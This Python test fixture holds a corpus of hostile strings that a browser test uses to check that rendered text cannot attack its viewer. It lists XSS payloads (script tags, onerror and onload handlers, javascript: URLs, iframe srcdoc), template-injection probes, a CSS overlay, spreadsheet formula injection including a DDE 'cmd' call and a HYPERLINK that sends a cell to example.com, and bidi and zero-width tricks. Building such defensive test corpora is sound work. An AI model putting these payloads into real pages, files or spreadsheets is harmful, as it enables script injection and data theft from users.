"""Texts that a model, a data set or a user may have written to attack who looks at them.

Each that runs sets ``document.title`` or ``window.owned``, which a browser test looks for.
"""

from __future__ import annotations

_RUN = "window.owned=1;document.title='owned'"

CORPUS: dict[str, str] = {
    "script": f"<script>{_RUN}</script>",
    "end-script": f"</script><script>{_RUN}</script>",
    "handler": f'<img src=x onerror="{_RUN}">',
    "attribute": f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    "single": f"' onfocus='{_RUN}' autofocus '",
    "svg": f"<svg onload={_RUN}><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    "mathml": f'<math><mi xlink:href="javascript:{_RUN}">x</mi><style></math><img onerror={_RUN}>',
    "mathjax": "$\\href{javascript:window.owned=1}{x}$ \\(\\unicode{x202e}\\)",
    "template": "{{ 7 * 7 }} {% for x in ().__class__.__mro__ %}{{ x }}{% endfor %} ${7*7}",
    "iframe": f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "base": '<base href="http://example.com/"><link rel=stylesheet href=//example.com/x.css>',
    "style": "<style>body{display:none}</style><div style='position:fixed;inset:0;background:red'>",
    "form": '<form action="http://example.com"><button>Compare ticked</button></form>',
    "ansi": "\x1b[2J\x1b[31mred\x1b[0m\x07\x08\x08\x00",
    "bidi": "abc\u202egnp.exe\u202c \u2066isolated\u2069 \u061c",
    "zero-width": "pa\u200bss\u200d\u2060wo\ufeffrd\u00ad",
    "zalgo": "Z" + "\u0301\u0316" * 400,
    "formula": '=HYPERLINK("http://example.com?x="&A1,"click")',
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "newline-formula": "\n=1+1",
    "long-word": "w" * 30_000,
    "many-lines": "line\n" * 5_000,
    "url": "javascript:window.owned=1",
    "comment": "<!-- --!> <![CDATA[ ]]> -->",
    "markdown": "[x](javascript:window.owned=1) | a | b |\n|---|---|",
}
